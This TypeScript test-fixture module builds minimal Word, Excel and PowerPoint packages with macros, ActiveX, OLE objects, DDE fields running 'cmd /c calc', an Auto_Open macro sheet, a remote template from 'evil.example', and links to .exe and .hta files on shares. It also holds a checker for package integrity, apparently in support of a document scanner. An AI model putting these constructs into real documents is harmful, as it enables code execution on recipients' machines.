// Office documents with active content, made part by part as the programs write them, and what makes a
// document whole: every id leads somewhere, every part that is named is there, every tag is closed.

import { inflateRawSync } from 'node:zlib';
import { zipOf } from '../../support/eicar.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const R = `xmlns:r="${OFFICE}"`;

export type Parts = Readonly<Record<string, string | Buffer>>;
type Link = readonly [id: string, type: string, target: string, external?: 'External'];

export function rels(...links: readonly Link[]): string {
  const rows = links.map(([id, type, target, mode]) => {
    const full = type.startsWith('http') ? type : `${OFFICE}/${type}`;
    return `<Relationship Id="${id}" Type="${full}" Target="${target}"${mode === undefined ? '' : ` TargetMode="${mode}"`}/>`;
  });
  return `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows.join('')}</Relationships>`;
}

export function types(
  overrides: Readonly<Record<string, string>>,
  bin = 'application/vnd.ms-office.vbaProject',
): string {
  const rows = Object.entries(overrides).map(
    ([part, type]) => `<Override PartName="/${part}" ContentType="${type}"/>`,
  );
  return (
    `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
    `<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="${bin}"/>${rows.join('')}</Types>`
  );
}

export function office(parts: Parts): Buffer {
  return zipOf(Object.entries(parts).map(([name, data]) => ({ name, data: Buffer.from(data as string) })));
}

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml';

/** Macros, an ActiveX control, an OLE object, a remote template and picture, a DDE field, links. */
export const WORD_PARTS: Parts = {
  '[Content_Types].xml': types({
    'word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml',
    'word/settings.xml': `${WORD}.settings+xml`,
    'word/vbaData.xml': 'application/vnd.ms-word.vbaData+xml',
    'word/activeX/activeX1.xml': 'application/vnd.ms-office.activeX+xml',
    'word/activeX/activeX1.bin': 'application/vnd.ms-office.activeX',
    'word/embeddings/oleObject1.bin': 'application/vnd.openxmlformats-officedocument.oleObject',
  }),
  '_rels/.rels': rels(['rId1', 'officeDocument', 'word/document.xml']),
  'word/document.xml':
    `${XML}<w:document xmlns:w="urn:w" ${R}><w:body>` +
    '<w:p><w:r><w:t>Hello, reader</w:t></w:r></w:p>' +
    '<w:p><w:hyperlink r:id="rId6"><w:r><w:t>site</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId7"><w:r><w:t>share</w:t></w:r></w:hyperlink></w:p>' +
    '<w:p><w:r><w:object><v:shape id="s1"><v:imagedata r:id="rId8"/></v:shape><o:OLEObject Type="Embed" r:id="rId4"/></w:object></w:r></w:p>' +
    '<w:p><w:r><w:object><w:control r:id="rId3" w:name="Button1"/></w:object></w:r></w:p>' +
    '<w:p><w:r><a:blip r:embed="rId8" r:link="rId5"/></w:r></w:p>' +
    '<w:p><w:r><w:instrText>DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\x.exe "/c calc"</w:instrText></w:r></w:p>' +
    '</w:body></w:document>',
  'word/_rels/document.xml.rels': rels(
    ['rId1', `${MICROSOFT}/vbaProject`, 'vbaProject.bin'],
    ['rId2', 'settings', 'settings.xml'],
    ['rId3', 'control', 'activeX/activeX1.xml'],
    ['rId4', 'oleObject', '/word/embeddings/oleObject1.bin'],
    ['rId5', 'image', 'http://tracker.example/pixel.png', 'External'],
    ['rId6', 'hyperlink', 'https://site.example/?a=1&amp;b=2', 'External'],
    ['rId7', 'hyperlink', 'file://server/share/x.exe', 'External'],
    ['rId8', 'image', 'media/image1.png'],
  ),
  'word/settings.xml': `${XML}<w:settings xmlns:w="urn:w" ${R}><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`,
  'word/_rels/settings.xml.rels': rels([
    'rId1',
    'attachedTemplate',
    'http://evil.example/t.dotm',
    'External',
  ]),
  'word/vbaProject.bin': Buffer.from('MACRO CODE'),
  'word/_rels/vbaProject.bin.rels': rels(['rId1', `${MICROSOFT}/wordVbaData`, 'vbaData.xml']),
  'word/vbaData.xml': '<wne:vbaSuppData/>',
  'word/activeX/activeX1.xml': '<ax:ocx/>',
  'word/activeX/_rels/activeX1.xml.rels': rels(['rId1', `${MICROSOFT}/activeXControlBinary`, 'activeX1.bin']),
  'word/activeX/activeX1.bin': Buffer.from('CONTROL STATE'),
  'word/embeddings/oleObject1.bin': Buffer.from('EMBEDDED'),
  'word/media/image1.png': Buffer.from('PICTURE BYTES'),
};

const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml';

/** A sheet of Excel 4 macros that runs at the start, a link to another workbook, a DDE link, a control. */
export const EXCEL_PARTS: Parts = {
  '[Content_Types].xml': types({
    'xl/workbook.xml': 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    'xl/worksheets/sheet1.xml': `${SHEET}.worksheet+xml`,
    'xl/macrosheets/sheet1.xml': 'application/vnd.ms-excel.macrosheet+xml',
    'xl/externalLinks/externalLink1.xml': `${SHEET}.externalLink+xml`,
    'xl/externalLinks/externalLink2.xml': `${SHEET}.externalLink+xml`,
  }),
  '_rels/.rels': rels(['rId1', 'officeDocument', '/xl/workbook.xml']),
  'xl/workbook.xml':
    `${XML}<workbook ${R}><bookViews><workbookView activeTab="1"/></bookViews>` +
    '<sheets><sheet name="Macro1" sheetId="1" r:id="rId1"/><sheet name="Data" sheetId="2" r:id="rId2"/></sheets>' +
    '<externalReferences><externalReference r:id="rId3"/><externalReference r:id="rId4"/></externalReferences>' +
    '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Area" localSheetId="1">Data!$A$1</definedName></definedNames></workbook>',
  'xl/_rels/workbook.xml.rels': rels(
    ['rId1', `${MICROSOFT}/xlMacrosheet`, 'macrosheets/sheet1.xml'],
    ['rId2', 'worksheet', 'worksheets/sheet1.xml'],
    ['rId3', 'externalLink', 'externalLinks/externalLink1.xml'],
    ['rId4', 'externalLink', 'externalLinks/externalLink2.xml'],
  ),
  'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>',
  'xl/worksheets/sheet1.xml':
    `${XML}<worksheet ${R} xmlns:mc="urn:mc"><sheetData><row><c><v>42</v></c></row></sheetData><oleObjects>` +
    '<mc:AlternateContent><mc:Choice Requires="x14"><oleObject progId="Package" r:id="rId1"><objectPr/></oleObject></mc:Choice>' +
    '<mc:Fallback><oleObject progId="Package" r:id="rId1"/></mc:Fallback></mc:AlternateContent></oleObjects></worksheet>',
  'xl/worksheets/_rels/sheet1.xml.rels': rels(['rId1', 'oleObject', '../embeddings/disguised.png']),
  'xl/embeddings/disguised.png': Buffer.from('PACKAGE'),
  'xl/externalLinks/externalLink1.xml': `${XML}<externalLink ${R}><externalBook r:id="rId1"/></externalLink>`,
  'xl/externalLinks/_rels/externalLink1.xml.rels': rels([
    'rId1',
    'externalLinkPath',
    '\\\\server\\share\\b.xlsx',
    'External',
  ]),
  'xl/externalLinks/externalLink2.xml': `${XML}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>`,
};

/** An embedded object in a frame, a click that runs a program, one that opens a share. */
export const SLIDE_PARTS: Parts = {
  '[Content_Types].xml': types(
    {
      'ppt/presentation.xml':
        'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
      'ppt/slides/slide1.xml': 'application/vnd.openxmlformats-officedocument.presentationml.slide+xml',
    },
    'application/vnd.openxmlformats-officedocument.oleObject',
  ),
  '_rels/.rels': rels(['rId1', 'officeDocument', 'ppt/presentation.xml']),
  'ppt/presentation.xml': `${XML}<p:presentation ${R}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>`,
  'ppt/_rels/presentation.xml.rels': rels(['rId1', 'slide', 'slides/slide1.xml']),
  'ppt/slides/slide1.xml':
    `${XML}<p:sld ${R}><p:spTree><p:sp><a:t>Title</a:t><a:hlinkClick r:id="" action="ppaction://program?c:\\x.exe"/></p:sp>` +
    '<p:sp><a:hlinkClick r:id="rId2"/></p:sp>' +
    '<p:graphicFrame><a:graphic><a:graphicData><p:oleObj r:id="rId1" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>' +
    '<p:graphicFrame><a:graphic><a:tbl/></a:graphic></p:graphicFrame></p:spTree></p:sld>',
  'ppt/slides/_rels/slide1.xml.rels': rels(
    ['rId1', 'oleObject', '../embeddings/oleObject1.bin'],
    ['rId2', 'hyperlink', '\\\\server\\share\\x.hta', 'External'],
  ),
  'ppt/embeddings/oleObject1.bin': Buffer.from('EMBEDDED'),
};

/** The members of a ZIP file, by name. */
export function membersOf(zip: Buffer): Map<string, Buffer> {
  const members = new Map<string, Buffer>();
  let at = zip.readUInt32LE(zip.length - 6);
  for (let left = zip.readUInt16LE(zip.length - 12); left > 0; left -= 1) {
    const [packed, name, extra, comment] = [20, 28, 30, 32].map((offset, i) =>
      i === 0 ? zip.readUInt32LE(at + offset) : zip.readUInt16LE(at + offset),
    ) as [number, number, number, number];
    const local = zip.readUInt32LE(at + 42);
    const data = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const bytes = zip.subarray(data, data + packed);
    const content = zip.readUInt16LE(at + 10) === 8 ? inflateRawSync(bytes) : bytes;
    members.set(zip.toString('utf8', at + 46, at + 46 + name), content);
    at += 46 + name + extra + comment;
  }
  return members;
}

/** What is wrong with a document, one line each. */
export function defectsOf(members: ReadonlyMap<string, Buffer>): string[] {
  const defects: string[] = [];
  const overrides = members
    .get('[Content_Types].xml')!
    .toString()
    .matchAll(/PartName="\/([^"]*)"/g);
  for (const [, part] of overrides)
    if (!members.has(part!)) defects.push(`${part} has a type and is not there`);
  for (const [name, content] of members) {
    if (!/\.(?:xml|rels)$/.test(name)) continue;
    const text = content.toString();
    if (!isBalanced(text)) defects.push(`${name} is not well-formed`);
    const slash = name.lastIndexOf('/') + 1;
    const links = members.get(`${name.slice(0, slash)}_rels/${name.slice(slash)}.rels`)?.toString() ?? '';
    const ids = new Set([...links.matchAll(/ Id="([^"]*)"/g)].map(([, id]) => id));
    for (const [, id] of text.matchAll(/ r:\w+="([^"]+)"/g)) {
      if (!ids.has(id)) defects.push(`${name} points at ${id}, which is nothing`);
    }
    if (name.endsWith('.rels')) {
      const folder = new URL(`zip:/${name.replace(/_rels\/[^/]*$/, '')}`);
      for (const [, target] of text.matchAll(/ Target="([^"]*)"\/>/g)) {
        const part = new URL(target!, folder).pathname.slice(1);
        if (!members.has(part)) defects.push(`${name} leads to ${part}, which is not there`);
      }
    }
  }
  return defects;
}

function isBalanced(xml: string): boolean {
  const open: string[] = [];
  for (const [, close, name, self] of xml
    .replace(/<\?[^>]*\?>/g, '')
    .matchAll(/<(\/?)([\w:]+)(?:\s[^<>]*?)?(\/?)>/g)) {
    if (close === '/') {
      if (open.pop() !== name) return false;
    } else if (self !== '/') open.push(name!);
  }
  return open.length === 0;
}
